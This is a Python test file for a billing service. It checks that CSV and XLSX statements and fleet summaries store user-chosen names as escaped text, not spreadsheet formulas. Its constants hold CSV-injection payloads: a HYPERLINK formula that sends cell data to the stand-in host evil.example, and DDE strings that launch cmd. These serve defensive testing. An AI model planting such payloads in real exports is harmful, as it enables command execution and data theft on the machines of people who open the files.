"""Statements and fleet summaries are data, never formulas: names users chose that a spreadsheet would run
(a job called ``=HYPERLINK(...)``, a project called ``=cmd|' /C calc'!A0``) come out as text, amounts as
numbers, in the CSV and in the XLSX."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook

from billing import reports
from billing.actions import metering
from tenancy import actions
from tests.billing.conftest import placed
from tests.billing.test_attribution import price_everything
from tests.conftest import api_client
from tests.scheduler.conftest import Fleet

START = datetime(2026, 11, 3, 9, tzinfo=UTC)
MONTH = "2026-11"
JOB = '=HYPERLINK("http://evil.example/?q="&A1,"Open")'
PROJECT = "=cmd|' /C calc'!A0"
TEAM = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def month(fleet: Fleet) -> Fleet:
    """November: a job named like a formula ran in a project named like one, in a team named like one."""
    price_everything(fleet, "2.5")
    vision = fleet.world.teams["vision"]
    project = actions.create_project(fleet.user("lena"), vision, name=PROJECT, slug="calc")
    vision.name = TEAM
    vision.save(update_fields=["name"])
    placed(fleet, admitted=START, ended=START + timedelta(hours=10), accelerators=4, name=JOB, project=project)
    metering.meter_capacity(fleet.org, START)
    metering.meter(fleet.org, START + timedelta(days=1))
    return fleet


def download(fleet: Fleet, user: str, url: str) -> bytes:
    response: Any = api_client(fleet.world.users[user]).get(url, {"month": MONTH})
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content)


def test_every_text_that_would_run_as_a_formula_is_a_string_cell_in_the_xlsx(month: Fleet) -> None:
    book = load_workbook(io.BytesIO(download(month, "lena", "/api/v1/billing/statements/vision.xlsx")))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert formulas == []
    by_value: dict[Any, list[Any]] = {}
    for cell in cells:
        by_value.setdefault(cell.value, []).append(cell)
    # The names are kept as they are, as strings a spreadsheet shows but never runs.
    for name in (JOB, PROJECT, TEAM):
        assert by_value[name], name
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in by_value[name])
    # Amounts stay numbers, and a plain text has no mark.
    header, *lines = list(book["Lines"].iter_rows())
    total = [cell.value for cell in header].index("total")
    assert all(isinstance(row[total].value, float | int) for row in lines)
    assert not book["Lines"]["A1"].quotePrefix


def test_every_text_that_would_run_as_a_formula_starts_with_an_apostrophe_in_the_csv(month: Fleet) -> None:
    text = download(month, "lena", "/api/v1/billing/statements/vision.csv").decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    *lines, total = rows
    assert {row["team"] for row in rows} == {f"'{TEAM}"}
    assert [row["project"] for row in lines] == [f"'{PROJECT}"]
    assert total["project"] == "Total"
    assert Decimal(lines[0]["total"]) == Decimal(total["total"]) > 0
    # Read back by a CSV reader, no cell starts with what a spreadsheet takes for a formula.
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if reports.reads_as_formula(cell)]
    # Texts are quoted (one cell even where ';' separates), numbers are not.
    assert f'"\'{PROJECT}"' in text
    assert f",{total['total']}," in text


def test_the_fleet_summary_marks_team_names_too(month: Fleet) -> None:
    text = download(month, "fiona", "/api/v1/billing/fleet.csv").decode()
    assert f"'{TEAM}" in {row["team"] for row in csv.DictReader(io.StringIO(text))}
    book = load_workbook(io.BytesIO(download(month, "fiona", "/api/v1/billing/fleet.xlsx")))
    teams = [row[1] for row in book["Teams"].iter_rows(min_row=2)]
    assert [(cell.data_type, cell.quotePrefix) for cell in teams if cell.value == TEAM] == [("s", True)]


@pytest.mark.parametrize(
    ("value", "formula"),
    [
        ("=1+1", True),
        ("+1", True),
        ("-1", True),
        ("@SUM(A1)", True),
        ("\tx", True),
        ("\rx", True),
        ("vision", False),
        ("", False),
        ("a=b", False),
        (Decimal("-1.00"), False),
        (-1, False),
        (None, False),
    ],
)
def test_reads_as_formula_is_owasps_rule_for_texts_only(value: Any, formula: bool) -> None:
    assert reports.reads_as_formula(value) is formula
